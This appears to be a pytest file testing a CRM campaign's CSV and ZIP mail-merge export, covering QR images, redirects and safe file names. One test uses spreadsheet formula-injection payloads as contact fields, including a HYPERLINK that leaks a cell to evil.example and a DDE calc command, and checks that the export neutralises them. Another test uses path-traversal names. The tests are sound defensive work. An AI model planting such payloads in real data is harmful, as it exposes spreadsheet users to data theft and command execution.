"""Mail-merge export of a campaign: a CSV Excel opens safely and a ZIP of it with one image per contact,
every image decoding to the short URL in its row."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.integrations.crm.conftest import TYPICAL, create
from tests.integrations.crm.test_campaigns import (
    LANDING,
    UTM,
    import_contacts,
    make_campaign,
    make_codes,
    path_of,
)

#: The contact's id, then the CSV import's columns: an export reads back as an import.
CONTACT_COLUMNS = [
    "contact_id",
    "given_name",
    "family_name",
    "organization",
    "title",
    "email",
    "phone",
    "mobile",
    "website",
    "note",
    "external_id",
    "address.street",
    "address.city",
    "address.region",
    "address.postal_code",
    "address.country",
]
CODE_COLUMNS = ["reference", "qr_payload", "qr_image_url"]


@pytest.fixture
def app_config() -> dict[str, Any]:
    return {"SCAN_FLUSH_SECONDS": 0}


def read_csv(content: bytes) -> list[dict[str, str]]:
    """The rows as a spreadsheet gets them: UTF-8 after a BOM, CRLF line ends."""
    assert content.startswith(b"\xef\xbb\xbf")
    text = content[3:].decode("utf-8")
    assert "\n" not in text.replace("\r\n", "")  # no bare LF outside quoted cells here
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_campaign_for_500_contacts_is_made_in_one_call_and_every_export_decodes(
    client, auth, decode
) -> None:
    rows = [
        {
            "given_name": f"Given{n}",
            "family_name": "Smith" if n % 7 else "Lee",  # repeated names: file names stay unique
            "email": f"p{n}@example.com",
            "external_id": f"ext-{n}",
        }
        for n in range(500)
    ]
    import_contacts(client, auth, rows)
    campaign = make_campaign(client, auth)

    response = make_codes(client, auth, campaign["id"], all=True)
    assert response.status_code == 201, response.get_json()
    made = response.get_json()
    assert (made["count"], made["created"]) == (500, 500)
    short_urls = {item["contact_id"]: item["short_url"] for item in made["items"]}
    assert len(set(short_urls.values())) == 500

    exported = client.get(f"/v1/crm/campaigns/{campaign['id']}/export.csv", headers=auth)
    assert exported.status_code == 200
    assert exported.mimetype == "text/csv"
    assert exported.headers["Content-Disposition"].startswith("attachment; filename=")
    table = read_csv(exported.data)
    assert len(table) == 500
    assert list(table[0]) == CONTACT_COLUMNS + CODE_COLUMNS
    by_external = {row["external_id"]: row for row in table}
    assert set(by_external) == {row["external_id"] for row in rows}
    for row in table:
        assert row["qr_payload"] == short_urls[row["contact_id"]]
        assert row["email"] == f"p{row['external_id'][4:]}@example.com"
        assert path_of(row["qr_image_url"]) == f"/v1/qr/{path_of(row['qr_image_url']).split('/')[-1]}"
        assert row["qr_image_url"].endswith(".png")

    for row in table:
        image = client.get(path_of(row["qr_image_url"]))
        assert image.status_code == 200
        assert decode(image.data) == [row["qr_payload"]]

    archive_response = client.get(f"/v1/crm/campaigns/{campaign['id']}/export.zip", headers=auth)
    assert archive_response.status_code == 200
    assert archive_response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(archive_response.data))
    names = archive.namelist()
    assert len(names) == 501
    assert len({name.casefold() for name in names}) == 501
    zipped = read_csv(archive.read("contacts.csv"))
    assert [row["contact_id"] for row in zipped] == [row["contact_id"] for row in table]
    assert list(zipped[0]) == [*CONTACT_COLUMNS, *CODE_COLUMNS, "qr_image_file"]
    for row in zipped:
        assert row["qr_image_file"].endswith(".png")
        assert "/" not in row["qr_image_file"] and "\\" not in row["qr_image_file"]
        assert decode(archive.read(row["qr_image_file"])) == [row["qr_payload"]]

    for row in table:
        redirect = client.get(path_of(row["qr_payload"]))
        assert redirect.status_code == 302
        target = urlsplit(redirect.headers["Location"])
        assert target.geturl().startswith(LANDING.split("#")[0])
        query = parse_qs(target.query)
        assert query["utm_source"] == [UTM["source"]]
        assert query["utm_medium"] == [UTM["medium"]]
        assert query["utm_campaign"] == [UTM["campaign"]]
        assert query["qrc"] == [row["reference"]]

    stats = client.get(f"/v1/crm/campaigns/{campaign['id']}/stats", headers=auth).get_json()
    assert stats["scans"]["total"] == 500
    assert stats["scans"]["unique"] == 500


def test_hostile_contact_fields_arrive_neutralised_in_the_csv(client, auth) -> None:
    hostile = {
        "given_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "family_name": "@SUM(1)",
        "organization": "-1+1",
        "title": "+1",
        "phone": "+1 555 0100",
        "note": "\tcmd|' /C calc'!A0",
        "external_id": "=1+1",
        "address": {"city": "Oslo", "street": "-2+3"},
    }
    contact = create(client, auth, hostile)
    campaign = make_campaign(client, auth)
    make_codes(client, auth, campaign["id"])
    for export in ("export.csv", "export.zip"):
        response = client.get(f"/v1/crm/campaigns/{campaign['id']}/{export}", headers=auth)
        content = response.data
        if export == "export.zip":
            content = zipfile.ZipFile(io.BytesIO(content)).read("contacts.csv")
        (row,) = read_csv(content)
        assert row["contact_id"] == contact["id"]
        assert row["given_name"] == "'" + hostile["given_name"]
        assert row["family_name"] == "'@SUM(1)"
        assert row["organization"] == "'-1+1"
        assert row["title"] == "'+1"
        assert row["phone"] == "'+1 555 0100"
        assert row["note"] == "'\tcmd|' /C calc'!A0"
        assert row["external_id"] == "'=1+1"
        assert row["address.street"] == "'-2+3"
        assert row["address.city"] == "Oslo"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_zip_file_names_are_safe_and_unique_whatever_the_names(client, auth, decode) -> None:
    names = [
        ("..", "../../etc/passwd"),
        ("CON", ""),
        ("Ann", "Lee"),
        ("ann", "LEE"),
        ("Zoë", "Müller"),
        ("太郎", "山田"),
        ("a\\b", "c:d*e?"),
    ]
    for given, family in names:
        create(client, auth, {"given_name": given, "family_name": family or "x"})
    campaign = make_campaign(client, auth)
    make_codes(client, auth, campaign["id"])
    response = client.get(f"/v1/crm/campaigns/{campaign['id']}/export.zip", headers=auth)
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    files = [name for name in archive.namelist() if name != "contacts.csv"]
    assert len(files) == len(names)
    assert len({name.casefold() for name in files}) == len(files)
    for name in files:
        assert name.endswith(".png")
        assert "/" not in name and "\\" not in name and ".." not in name
        assert not any(char in name for char in ':*?"<>|')
        assert name.split(".")[0].casefold() not in {"con", "prn", "aux", "nul", ""}
        assert len(decode(archive.read(name))) == 1
    assert "Zoë-Müller.png" in files
    assert "太郎-山田.png" in files


def test_zip_holds_svg_images_when_asked(client, auth, decode) -> None:
    create(client, auth)
    create(client, auth, {**TYPICAL, "given_name": "Bo"})
    campaign = make_campaign(client, auth)
    made = make_codes(client, auth, campaign["id"]).get_json()["items"]
    short_urls = {item["short_url"] for item in made}
    response = client.get(f"/v1/crm/campaigns/{campaign['id']}/export.zip?format=svg", headers=auth)
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    rows = read_csv(archive.read("contacts.csv"))
    assert {row["qr_image_file"].rsplit(".", 1)[1] for row in rows} == {"svg"}
    assert {decode(archive.read(row["qr_image_file"]), "svg")[0] for row in rows} == short_urls
    assert all(row["qr_image_url"].endswith(".png") for row in rows)

    bad = client.get(f"/v1/crm/campaigns/{campaign['id']}/export.zip?format=gif", headers=auth)
    assert bad.status_code == 400
    assert bad.get_json()["field"] == "format"


def test_only_contacts_with_a_code_are_exported(client, auth) -> None:
    first = create(client, auth)
    create(client, auth, {**TYPICAL, "given_name": "Bo"})
    campaign = make_campaign(client, auth)
    empty = client.get(f"/v1/crm/campaigns/{campaign['id']}/export.csv", headers=auth)
    assert empty.status_code == 200
    assert empty.data == b"\xef\xbb\xbf" + ",".join(CONTACT_COLUMNS + CODE_COLUMNS).encode() + b"\r\n"
    make_codes(client, auth, campaign["id"], contact_ids=[first["id"]])
    rows = read_csv(client.get(f"/v1/crm/campaigns/{campaign['id']}/export.csv", headers=auth).data)
    assert [row["contact_id"] for row in rows] == [first["id"]]
